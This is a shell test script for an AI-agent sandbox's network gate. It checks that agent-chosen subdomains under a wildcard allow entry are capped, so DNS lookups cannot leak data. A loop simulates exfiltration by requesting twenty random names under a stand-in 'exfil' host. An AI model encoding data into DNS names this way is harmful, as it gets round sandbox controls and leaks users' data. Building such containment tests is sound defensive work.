#!/bin/bash
# network.suffix_names: under a "*." allow entry the agent chooses the
# labels in front of the suffix, and the gate looks each name up through
# the host's resolver, so those labels leave the host.  At most
# suffix_names distinct names per entry and session: checked by what the
# test internet's dnsmasq saw (--log-queries), on the proxy, the capture
# path and the DNS stub; exact entries and names already counted stay
# usable.
# shellcheck source=tests/lib/tap.sh
. "$(dirname "$0")/../lib/tap.sh"
# shellcheck source=tests/gate/lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/lib/internet.sh
. "$(dirname "$0")/../lib/internet.sh"
require_root
gt_lock
internet_up gat3 || skip_all "cannot build the test internet"
T=$(mktemp -d /run/tgat.XXXXXX)
chmod 755 "$T"
at_exit "rm -rf '$T'"
tu_user tgat3 >/dev/null || skip_all "cannot create tgat3"
GT_USER=tgat3
cat > "$T/aisb.conf" <<C
network {
  mode = "gated"
  allow = {"origin.test", "*.example.test", "www.example.test"}
  allow_cidr = {"$INET_ORIGIN_NET"}
  resolver = "$INET_DNS"
  suffix_names = 5
}
C
chmod 644 "$T/aisb.conf"
: > "$T/canary.log"
gt_gate --nft || skip_all "gate did not start"
echo "nameserver 127.0.0.1" > "$T/resolv.conf"
gsh() {
	gin unshare -m bash -c "mount --bind '$T/resolv.conf' /etc/resolv.conf && $1"
}
# Distinct names below example.test that dnsmasq was asked for.
seen() {
	internet_dns_sync
	grep -o 'query\[A\] [^ ]*\.example\.test ' "$INET_DNS_LOG" |
	    sort -u | grep -c "$1"
}

is "$(gcurl http://api.example.test/)" "aisb-origin ok" "a name below the *. entry (1 of 5)"
is "$(gsh 'curl -sS --max-time 10 http://other.example.test/')" "aisb-origin ok" \
    "another one through the capture path (2 of 5)"

# Twenty labels chosen by the agent, as an exfiltration would.
: > "$T/codes"
for i in $(seq 1 20); do
	gcurl -o /dev/null -w '%{http_code} ' "http://x$i-$RANDOM.exfil.example.test/" >> "$T/codes" 2>/dev/null
done
is "$(tr ' ' '\n' < "$T/codes" | grep -c '^403$')" 17 "20 new names: the 17 past the bound are refused (403)"
is "$(seen 'exfil\.example\.test')" 3 "... dnsmasq saw exactly the 3 that fitted in the bound"
is "$(seen '')" 5 "... and 5 distinct names below example.test in all"
hdr=$(gcurl -D - -o "$T/body" "http://one-more.example.test/" 2>&1)
like "$hdr" "X-Aisb-Reason: network.suffix_names" "the refusal names network.suffix_names"
like "$(cat "$T/body")" "one-more.example.test is a new name below network.allow entry \*\.example\.test" "... and says why"
is "$(grep -c 'suffix-bound entry=\*\.example\.test limit=5' "$T/gate.log")" 1 "the bound is logged once, when it is reached"
like "$(cat "$T/gate.log")" "deny proxy name=one-more\.example\.test port=80 rule=network\.suffix_names" \
    "... and each refusal is a deny record"

out=$(gin dig +tries=1 +time=3 @127.0.0.1 stub-new.example.test A 2>&1)
like "$out" "status: NXDOMAIN" "the DNS stub: a new name past the bound gets NXDOMAIN"
out=$(gsh 'curl -sS --max-time 5 http://stub-new.example.test/' 2>&1)
unlike "$out" "aisb-origin" "... so the capture path cannot reach it"
unlike "$(internet_dns_sync; cat "$INET_DNS_LOG")" "one-more|stub-new" "... none of the refused names reached dnsmasq"

# The twins: names already counted, exact entries.
is "$(gcurl http://api.example.test/)" "aisb-origin ok" "a name counted before the bound still works"
like "$(gin dig +short +tries=1 +time=3 @127.0.0.1 other.example.test A 2>&1)" "^198\.(18|19)\." \
    "... and still gets its synthetic address from the stub"
is "$(gcurl http://www.example.test/)" "aisb-origin ok" "an exact entry below the same suffix is not counted"
is "$(gcurl http://origin.test/)" "aisb-origin ok" "another exact entry: unaffected"

# A new session (a new gate) starts counting again.
gt_gate_stop
gt_gate --nft || skip_all "gate did not start again"
is "$(gcurl -o /dev/null -w '%{http_code}' "http://fresh-$RANDOM.example.test/" 2>/dev/null)" 502 \
    "a new session: a new name is looked up again (NXDOMAIN upstream: 502)"
ok "the canary never saw a connection" gt_canary_clean
done_testing
